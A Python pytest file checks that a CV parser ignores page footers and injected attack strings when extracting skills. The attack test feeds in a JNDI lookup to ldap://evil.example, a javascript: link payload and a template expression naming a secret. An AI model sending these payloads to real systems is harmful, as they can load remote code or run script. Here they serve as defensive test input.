"""Text that no person wrote of themselves proves no skill: footers of pages, attack strings, placeholders."""

import pytest

from bot.cv import read_cv
from bot.search.index import index

CV = """# Nils Brook
nils@brook.example
{}

## Work

**Engineer, Tessera Labs** (2020 - 2023)
- Ran the Kafka cluster.

## Skills
Python, C++

{}
"""


def skills(top="", end=""):
    reading = read_cv(CV.format(top, end).encode(), "cv.md")
    listed = [skill.name.value for skill in reading.profile.skills]
    return {row.skill for row in index(reading.profile, {0: reading.text}).skills}, listed


@pytest.mark.parametrize(
    "footer",
    [
        "© 2026 Nils Brook. Built with Hugo and Terraform.",
        "2026 Nils Brook. Hosted with Jekyll on Terraform",
        "This page was generated with Terraform and Hugo.",
        "Powered by Hugo & Terraform",
        "Copyright 2024-2026 Nils Brook | Made with ♥ in Terraform",
    ],
)
def test_how_a_page_was_made_is_nobodys_skill(footer):
    found, listed = skills(end=footer)
    assert "terraform" not in found
    assert {"kafka", "python"} <= found
    assert listed == ["Python", "C++"]


def test_what_a_project_was_built_with_is_one():
    assert "terraform" in skills(end="## Projects\n\n**Dunes** (2022)\n- Built with Terraform and Go.")[0]


@pytest.mark.parametrize(
    "attack",
    ["${jndi:ldap://evil.example/a}", "[here](javascript:alert(1))", "{{ ansible.secret }}", "ldap://evil.example/x"],
)
def test_what_only_a_program_would_run_is_no_skill(attack):
    found, _ = skills(top=attack)
    assert found.isdisjoint({"ldap", "javascript", "ansible"})
